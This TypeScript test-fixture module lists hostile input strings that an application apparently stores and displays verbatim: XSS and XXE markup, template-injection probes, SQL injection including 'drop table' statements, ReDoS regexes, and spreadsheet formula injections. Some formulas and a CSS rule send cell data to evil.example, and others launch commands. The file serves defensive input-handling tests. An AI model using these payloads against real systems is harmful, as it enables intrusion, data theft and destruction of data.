/**
 * Text that would be an order if something took it for one: a page, a query or a spreadsheet. All of it is text that a
 * person may type, so it is stored and shown exactly as it was.
 */

const lines = (text: string) => text.split('\n').filter(line => line !== '')

/** HTML, SVG, CSS, Markdown, addresses and templates. */
export const MARKUP: readonly string[] = lines(String.raw`
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</script><script>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)"
<img/src/onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x"></svg>
<svg><foreignObject><iframe src="javascript:alert(1)"></foreignObject></svg>
<math><mtext><script>alert(1)</script></mtext></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="data:text/html,<script>alert(1)</script>">
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<link rel=stylesheet href="https://evil.example/x.css">
<form action="https://evil.example"><input name=password></form>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<body onload=alert(1)>
<marquee onstart=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a target=_blank href="//evil.example">x</a>
<div style="background:url(javascript:alert(1))">
<div style="position:fixed;inset:0;z-index:9999">
<style>@import url(https://evil.example/x.css)</style>
<style>input[value^=a]{background:url(https://evil.example/a)}</style>
expression(alert(1))
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>
<!DOCTYPE a [<!ENTITY b "bbb"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)
"><script>alert(1)</script>
'"><img src=x onerror=alert(1)>
" autofocus onfocus="alert(1)
javascript:alert(1)
javascript://%0aalert(1)
data:text/html,<script>alert(1)</script>
//evil.example/chemin
/\evil.example
[x](javascript:alert(1))
![x](https://evil.example/pixel.png)
[x]: javascript:alert(1)
<javascript:alert(1)>
# titre | colonne | *gras* _souligné_
{{constructor.constructor('alert(1)')()}}
{{7*7}} ${'$'}{7*7} #{7*7} <%= 7*7 %>
#set page(width: 1pt)
#read("/etc/passwd") #sys.inputs
$ x^2 $ @reference <label> *gras* _italique_ = Titre
\input{/etc/passwd}
`)

/** SQL, LIKE wildcards, regular expressions and full-text operators. */
export const QUERIES: readonly string[] = lines(String.raw`
'
''
"
\
\'
' or '1'='1
' or 1=1 --
'; drop table users; --
'); delete from operators; --
1; select pg_sleep(10)
' union select null, version() --
' || (select current_user) || '
$$; select 1; $$
${'$'}1
/* commentaire */
--
e'\x27'
%
_
%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%
\%
%' escape '
100 %
[a-z]*
(a+)+$
^(([a-z])+.)+[A-Z]([a-z])+$
(?=(?=(?=a)))
aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!
a & & b
a <-> | b
!
:*
a:*b
(a | b
'a' & 'b
a <999999999> b
set_config('app.operator', '1', false)
set role owner
`)

/** What a spreadsheet runs when a cell starts with it. */
export const FORMULAS: readonly string[] = [
  ...lines(`
=1+1
=cmd|' /C calc'!A0
=HYPERLINK("https://evil.example?x="&A1,"Cliquez")
=IMPORTXML("https://evil.example","//a")
=WEBSERVICE("https://evil.example/"&A1)
=DDE("cmd";"/C calc";"x")
=SUM(A1:A9)
=A1
==1
+1+1
+33 2 38 00 00 00
-1+1
-2+3+cmd|' /C calc'!A0
@SUM(1+1)
@prenom
|calc
%0A=1+1
"=1+1"
'=1+1
;=1+1
,=1+1
a;=1+1
＝1+1
＋1+1
－1+1
＠SUM(1)
=1+1;"b"
`),
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  'ligne\n=1+1',
]
